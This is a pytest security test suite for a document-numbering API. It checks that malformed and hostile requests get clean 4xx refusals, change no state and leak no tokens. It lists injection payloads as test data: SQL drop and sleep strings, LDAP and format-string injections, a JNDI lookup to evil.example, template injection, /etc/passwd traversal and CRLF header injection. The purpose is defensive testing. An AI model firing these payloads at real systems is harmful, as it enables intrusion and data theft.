"""Hostile input: every malformed or malicious request is a clear 4xx
problem+json, writes nothing (every table and the request store counted before and after) and
logs nothing that leaks a token or the JWT secret.

Free-text members (``document_ref``, reasons, catalog names, the Idempotency-Key) are text: a
printable SQL, LDAP or format-string payload there is stored verbatim as data (queries are
parameterised; nothing interprets it), which ``test_injection_payloads_in_free_text_are_inert``
checks. Everything that must not be text (codes, dates, modes, templates, tokens, timeouts,
control and bidi characters, unpaired surrogates) is refused.
"""
from __future__ import annotations

import io
import json
import logging
import time
import uuid
from urllib.parse import quote

import pytest
import redis as redis_lib
from sqlalchemy import text

from tests.conftest import BASE, JWT_SECRET, TABLES, letter

CODE_FIELDS = ("project", "correspondence_type", "originator", "recipient", "sub_type",
               "rfa_type", "discipline", "revision")
INVISIBLE = {
    "ZERO WIDTH SPACE": "\u200b", "ZERO WIDTH NON-JOINER": "\u200c",
    "ZERO WIDTH JOINER": "\u200d", "WORD JOINER": "\u2060", "BOM": "\ufeff",
    "RIGHT-TO-LEFT OVERRIDE": "\u202e", "LEFT-TO-RIGHT EMBEDDING": "\u202a",
    "RIGHT-TO-LEFT ISOLATE": "\u2067", "POP DIRECTIONAL ISOLATE": "\u2069",
    "ARABIC LETTER MARK": "\u061c", "RIGHT-TO-LEFT MARK": "\u200f",
}
PAYLOADS = {
    "sql quote": "' OR '1'='1",
    "sql drop": "'; DROP TABLE counters; --",
    "sql sleep": "1 AND SLEEP(5)",
    "sql comment": "LCBP3'/*",
    "ldap wildcard": "*)(uid=*))(|(uid=*",
    "ldap and": "admin)(&)",
    "format %": "%s%s%s%n%x",
    "format braces": "{0}{__class__.__init__.__globals__}",
    "python %()": "%(password)s",
    "jndi": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}",
    "path": "../../etc/passwd",
    "nul": "LCBP3\x00",
    "newline": "LCBP3\r\nX-Injected: 1",
}
# Routes taking a JSON body, with a minimal path to reach them (ids do not need to exist: the
# body is refused first).
JSON_ROUTES = [("post", "/requests"), ("post", "/generate"), ("post", "/reserve"),
               ("post", "/preview"), ("post", "/confirm"), ("post", "/cancel"),
               ("post", "/configs"), ("put", "/configs/1"), ("put", "/catalog/organization/X"),
               ("post", "/admin/void-and-replace"), ("post", "/admin/manual-override"),
               ("post", "/configs/1/reset-counter")]


@pytest.fixture
def hostile(app, client, seed, engine, settings, token, caplog):
    """Seeded service, an all-powerful token, and a guard: state unchanged, no secret logged."""
    caplog.set_level(logging.DEBUG)
    ids = seed()
    bearer = token("mallory", None, ["SUPER_ADMIN"])
    store = redis_lib.Redis.from_url(settings.result_backend)

    class Hostile:
        def __init__(self) -> None:
            self.client, self.ids, self.bearer = client, ids, bearer
            self.bodies: list[str] = []

        def headers(self, **extra: str) -> dict:
            return {"Authorization": f"Bearer {bearer}", "Idempotency-Key": uuid.uuid4().hex,
                    **extra}

        def counts(self) -> dict:
            with engine.connect() as conn:
                out = {t: conn.execute(text(f"SELECT COUNT(*) FROM `{t}`")).scalar()
                       for t in TABLES}
                # A refused privileged attempt is on the audit trail by design
                # (docs/lifecycle.md#refused-attempts); everything else must stay unchanged.
                refusals = conn.execute(text(
                    "SELECT COUNT(*) FROM audit_log WHERE success = 0 AND "
                    "JSON_EXISTS(`after`, '$.attempt')")).scalar()
                out["audit_log"] -= refusals
                # ... and on its hash chain: a refusal without a counter starts the keyless
                # audit chain's head row (docs/verification.md).
                if refusals:
                    out["chain_heads"] = 0
            out["request store"] = sum(1 for _ in store.scan_iter("docnum:request:*"))
            return out

        def audit_text(self) -> str:
            with engine.connect() as conn:
                return " ".join(str(row) for row in conn.execute(text(
                    "SELECT actor, user_agent, `after` FROM audit_log")))

        def refused(self, response, status: int | tuple[int, ...] | None = None,
                    code: str | None = None, field: str | None = None, *,
                    case: str = "") -> dict:
            """A clear 4xx problem+json (optionally this status, code and field); ``case``
            names the hostile input in a failure's message."""
            body_text = response.get_data(as_text=True)
            self.bodies.append(body_text)
            assert 400 <= response.status_code < 500, \
                (case, response.status_code, body_text[:500])
            if status is not None:
                wanted = status if isinstance(status, tuple) else (status,)
                assert response.status_code in wanted, \
                    (case, response.status_code, body_text[:500])
            assert response.headers["Content-Type"].startswith("application/problem+json"), case
            problem = json.loads(body_text)
            assert {"type", "title", "status", "code"} <= set(problem), case
            assert problem["status"] == response.status_code, case
            if code is not None:
                assert problem["code"] == code, (case, problem)
            if field is not None:
                assert field in {e["field"] for e in problem.get("errors", [])} or \
                    problem["detail"].startswith(field), (case, problem)
            return problem

    h = Hostile()
    before = h.counts()
    yield h
    assert h.counts() == before, "a refused request wrote something"
    logged = caplog.text
    recorded = h.audit_text()
    for secret in (bearer, bearer.split(".")[2], JWT_SECRET):
        assert secret not in logged, "a token or the JWT secret was logged"
        assert secret not in recorded, "a token or the JWT secret reached the audit trail"
        assert not any(secret in body for body in h.bodies), "a secret was echoed back"


def test_codes_with_invisible_or_bidi_characters(hostile):
    valid = {"project": "LCBP3", "correspondence_type": "LETTER", "originator": "คคง.",
             "recipient": "สคฉ.3", "sub_type": "21", "rfa_type": "RPT", "discipline": "STR",
             "revision": "A"}
    for field in CODE_FIELDS:
        for name, char in INVISIBLE.items():
            spoofed = valid[field][:2] + char + valid[field][2:]
            body = {**letter(), field: spoofed}
            response = hostile.client.post(f"{BASE}/generate", json=body,
                                           headers=hostile.headers())
            hostile.refused(response, 422, "VALIDATION_FAILED", field, case=name)
    for name, char in INVISIBLE.items():  # nor can such a code enter the catalog
        response = hostile.client.put(f"{BASE}/catalog/organization/{quote('คค' + char + 'ง.')}",
                                      json={"name": name}, headers=hostile.headers())
        hostile.refused(response, 422, "VALIDATION_FAILED", "code")
        response = hostile.client.put(f"{BASE}/catalog/organization/TEAM-X",
                                      json={"name": f"Team{char}X"}, headers=hostile.headers())
        hostile.refused(response, 422, "VALIDATION_FAILED", "name")


def _template_literal(text_: str) -> bool:
    """SPEC §3.2: literal template text is Unicode letters, marks, digits and - _ . /"""
    import unicodedata

    return all(unicodedata.category(c)[0] in "LMN" or c in "-_./" for c in text_)


def test_injection_payloads_in_structured_fields(hostile):
    for name, payload in PAYLOADS.items():
        for field in (*CODE_FIELDS, "document_date", "mode"):
            started = time.monotonic()
            response = hostile.client.post(f"{BASE}/requests", json={**letter(), field: payload},
                                           headers=hostile.headers())
            hostile.refused(response, 422, "VALIDATION_FAILED", field)
            assert time.monotonic() - started < 2, f"{name} in {field} was slow"
        config = {"project": "P2", "correspondence_type": "RFI", "reset": "YEARLY",
                  "template": "{PROJECT}-{SEQ:4}-{YEAR:B.E.}"}
        checks = [("reset", payload), ("project", payload), ("counter_scope", [payload])]
        if not _template_literal(payload):  # "../../etc/passwd" is valid literal text (§3.2)
            checks.append(("template", "{SEQ:4}-{YEAR:B.E.}" + payload))
        for field, value in checks:
            response = hostile.client.post(f"{BASE}/configs", json={**config, field: value},
                                           headers=hostile.headers())
            hostile.refused(response, 422)
        response = hostile.client.put(f"{BASE}/catalog/organization/{quote(payload, safe='')}",
                                      json={"name": "x"}, headers=hostile.headers())
        hostile.refused(response, (404, 422))
        for route, body in (("/confirm", {"token": payload}),
                            ("/cancel", {"token": payload, "reason": "hostile"})):
            response = hostile.client.post(f"{BASE}{route}", json=body,
                                           headers=hostile.headers())
            hostile.refused(response, (404, 422))
        response = hostile.client.get(f"{BASE}/numbers/{quote(payload, safe='')}",
                                      headers=hostile.headers())
        hostile.refused(response, (404, 422))
        response = hostile.client.get(f"{BASE}/requests/{quote(payload, safe='')}",
                                      headers=hostile.headers())
        hostile.refused(response, 404)


def test_injection_payloads_in_filters_find_nothing(hostile):
    for payload in PAYLOADS.values():
        for query in ("actor", "document_number", "counter_key", "request_id"):
            started = time.monotonic()
            response = hostile.client.get(f"{BASE}/audit", query_string={query: payload},
                                          headers=hostile.headers())
            assert response.status_code == 200 and response.json["items"] == [], response.json
            assert time.monotonic() - started < 2
        response = hostile.client.get(f"{BASE}/audit", query_string={"operation": payload},
                                      headers=hostile.headers())
        hostile.refused(response, 422, "VALIDATION_FAILED", "operation")  # an enum
        for route in ("/counters", "/configs"):
            response = hostile.client.get(f"{BASE}{route}", query_string={"project": payload},
                                          headers=hostile.headers())
            assert response.status_code == 200 and response.json["items"] == []


@pytest.mark.parametrize("method,route", JSON_ROUTES)
def test_body_of_one_mebibyte_plus_one_is_413(hostile, method, route):
    limit = 1024 * 1024
    prefix, suffix = b'{"project": "', b'"}'
    over = prefix + b"x" * (limit + 1 - len(prefix) - len(suffix)) + suffix
    assert len(over) == limit + 1
    response = getattr(hostile.client, method)(f"{BASE}{route}", data=over,
                                               headers=hostile.headers(),
                                               content_type="application/json")
    hostile.refused(response, 413, "PAYLOAD_TOO_LARGE")
    exactly = over[:len(prefix)] + over[len(prefix) + 1:]
    assert len(exactly) == limit
    response = getattr(hostile.client, method)(f"{BASE}{route}", data=exactly,
                                               headers=hostile.headers(),
                                               content_type="application/json")
    assert response.status_code != 413  # the limit is exactly 1 MiB
    hostile.refused(response)


def test_bulk_import_over_its_limit_is_413(hostile):
    from docnum.api.routes_admin import MAX_IMPORT_BYTES

    data = {"file": (io.BytesIO(b"x" * (MAX_IMPORT_BYTES + 1)), "huge.csv")}
    response = hostile.client.post(f"{BASE}/admin/bulk-import", data=data,
                                   headers=hostile.headers(), content_type="multipart/form-data")
    hostile.refused(response, 413, "PAYLOAD_TOO_LARGE")


@pytest.mark.parametrize("body", [
    b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    b'{"project": ' + b"[" * 5000 + b"]" * 5000 + b"}",
], ids=["arrays 100k deep", "objects 100k deep", "a member 5k deep"])
def test_deeply_nested_json(hostile, body):
    for route in ("/generate", "/configs", "/admin/manual-override"):
        response = hostile.client.post(f"{BASE}{route}", data=body, headers=hostile.headers(),
                                       content_type="application/json")
        hostile.refused(response, (400, 422))


NON_UTF8 = {
    "latin-1": '{"project": "LCBP3", "document_ref": "é"}'.encode("latin-1"),
    "cp874 (Thai Windows)": '{"project": "LCBP3", "originator": "คคง."}'.encode("cp874"),
    "utf-16 with BOM": '{"project": "LCBP3"}'.encode("utf-16"),
    "utf-8 BOM": b"\xef\xbb\xbf" + b'{"project": "LCBP3"}',
    "overlong NUL": b'{"project": "LCBP3\xc0\x80"}',
    "CESU surrogate": b'{"project": "LCBP3\xed\xa0\x80"}',
    "truncated sequence": b'{"project": "\xe0\xb8"}',
    "invalid byte": b'{"project": "\xff\xfe"}',
}
SURROGATE_BODIES = {  # valid JSON, not Unicode text: the escape of an unpaired surrogate
    "/generate": b'{"project": "LCBP3", "correspondence_type": "LETTER", '
                 b'"document_ref": "\\ud800"}',
    "/cancel": b'{"token": "\\udfff", "reason": "hostile"}',
    "/admin/void-and-replace": b'{"document_number": "\\ud800x", "reason": "hostile"}',
    "/admin/manual-override": b'{"project": "LCBP3", "correspondence_type": "LETTER", '
                              b'"document_number": "X-0001", "reason": "legacy \\uDBFF number"}',
    "/configs": b'{"project": "P2", "template": "{SEQ:4}", "reset": "NONE", '
                b'"change_reason": "\\ud83d alone"}',
}


def test_non_utf8_bodies_and_unpaired_surrogates(hostile):
    for name, body in NON_UTF8.items():
        for route in ("/generate", "/configs", "/confirm"):
            response = hostile.client.post(f"{BASE}{route}", data=body,
                                           headers=hostile.headers(),
                                           content_type="application/json")
            hostile.refused(response, 400, "BAD_REQUEST", case=f"{name} to {route}")
    for route, body in SURROGATE_BODIES.items():
        response = hostile.client.post(f"{BASE}{route}", data=body, headers=hostile.headers(),
                                       content_type="application/json")
        hostile.refused(response, 400, "BAD_REQUEST")
    for route in ("/catalog/organization/TEAM-X", f"/configs/{hostile.ids['LETTER']}"):
        body = (b'{"name": "\\ud800"}' if "catalog" in route
                else b'{"active": true, "change_reason": "because \\udc00 policy"}')
        response = hostile.client.put(f"{BASE}{route}", data=body, headers=hostile.headers(),
                                      content_type="application/json")
        hostile.refused(response, 400, "BAD_REQUEST")
    # A correctly paired surrogate escape is an ordinary character (here U+1F600).
    response = hostile.client.post(f"{BASE}/preview", headers=hostile.headers(),
                                   content_type="application/json",
                                   data=json.dumps({**letter(), "document_ref": "\U0001f600"},
                                                   ensure_ascii=True).encode())
    assert response.status_code == 200, response.json


@pytest.mark.parametrize("key", [
    "คีย์-ไทย", "ключ", "é-latin1", "emoji-😀", "tab\tkey", "del\x7f", "x" * 256, "",
    "nul\x00key"])
def test_non_ascii_or_unprintable_idempotency_keys(hostile, key):
    # A header arrives as bytes; WSGI hands them over decoded as latin-1.
    raw = key.encode("utf-8").decode("latin-1")
    for route in ("/requests", "/generate", "/reserve"):
        response = hostile.client.post(f"{BASE}{route}", json=letter(),
                                       headers=hostile.headers(**{"Idempotency-Key": raw}))
        hostile.refused(response, 400)
        assert response.json["code"] in ("IDEMPOTENCY_KEY_REQUIRED", "IDEMPOTENCY_KEY_INVALID")


@pytest.mark.parametrize("timeout", [
    "-1", "-0.5", "30.0001", "31", "1e309", "9" * 400, "inf", "Infinity", "nan", "NaN",
    "1_0", "\u0661", " 5", "5s", "0x10", "5,0", "1e2"])
def test_absurd_timeouts(hostile, timeout):
    for route in ("/generate", "/reserve"):
        response = hostile.client.post(f"{BASE}{route}", query_string={"timeout": timeout},
                                       json=letter(), headers=hostile.headers())
        hostile.refused(response, 422, "VALIDATION_FAILED", "timeout")


def test_hostile_headers(hostile):
    # Overlong and odd User-Agent / X-Request-ID values are cut or replaced, never a 500.
    for route in ("/generate", "/configs"):
        response = hostile.client.post(f"{BASE}{route}", data=b"{broken", headers=hostile.headers(
            **{"User-Agent": "A" * 20_000, "X-Request-ID": "'; DROP TABLE audit_log; --" * 50}),
            content_type="application/json")
        hostile.refused(response, 400, "BAD_REQUEST")
    for bad in ("Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer a.b", "Bearer " + "x" * 20_000,
                f"Bearer {hostile.bearer}x", f"bearer  {hostile.bearer[:-2]}"):
        response = hostile.client.post(f"{BASE}/generate", json=letter(),
                                       headers={**hostile.headers(), "Authorization": bad})
        hostile.refused(response, 401, "UNAUTHENTICATED")


def test_wrong_method_is_405_with_allow(hostile):
    response = hostile.client.delete(f"{BASE}/generate", headers=hostile.headers())
    hostile.refused(response, 405, "METHOD_NOT_ALLOWED")
    assert "POST" in response.headers["Allow"]


def test_injection_payloads_in_free_text_are_inert(hostile, engine):
    """Printable payloads in free text are data: stored verbatim, interpreted by nothing; the
    schema and every other row are untouched. (This test writes on purpose: it restores the
    guard's baseline by deleting exactly what it issued.)"""
    from sqlalchemy import delete

    from docnum.shared.db import transaction
    from docnum.shared.models import AuditRow, Counter, IssuedNumber

    printable = {k: v for k, v in PAYLOADS.items() if v.isprintable()}
    issued = []
    for name, payload in printable.items():
        key = (payload + "-" + uuid.uuid4().hex)[:255]
        response = hostile.client.post(f"{BASE}/generate?timeout=10",
                                       json=letter(document_ref=payload),
                                       headers=hostile.headers(**{"Idempotency-Key": key}))
        assert response.status_code == 201, (name, response.json)
        assert response.json["document_ref"] == payload
        issued.append(response.json)
    with engine.connect() as conn:
        stored = dict(conn.execute(text(
            "SELECT document_number, document_ref FROM document_numbers")).all())
        assert conn.execute(text("SELECT COUNT(*) FROM counters")).scalar() == 1
    assert {n["document_number"]: n["document_ref"] for n in issued} == stored
    assert sorted(n["sequence"] for n in issued) == list(range(1, len(printable) + 1))
    with transaction(engine) as session:  # back to the guard's baseline
        ids = [n["request_id"] for n in issued]
        session.execute(delete(AuditRow).where(AuditRow.request_id.in_(ids)))
        session.execute(delete(IssuedNumber).where(IssuedNumber.request_id.in_(ids)))
        session.execute(delete(Counter))
    store = redis_lib.Redis.from_url(hostile.client.application.config[
        "DOCNUM_SETTINGS"].result_backend)
    for request_id in ids:
        store.delete(f"docnum:request:{request_id}")
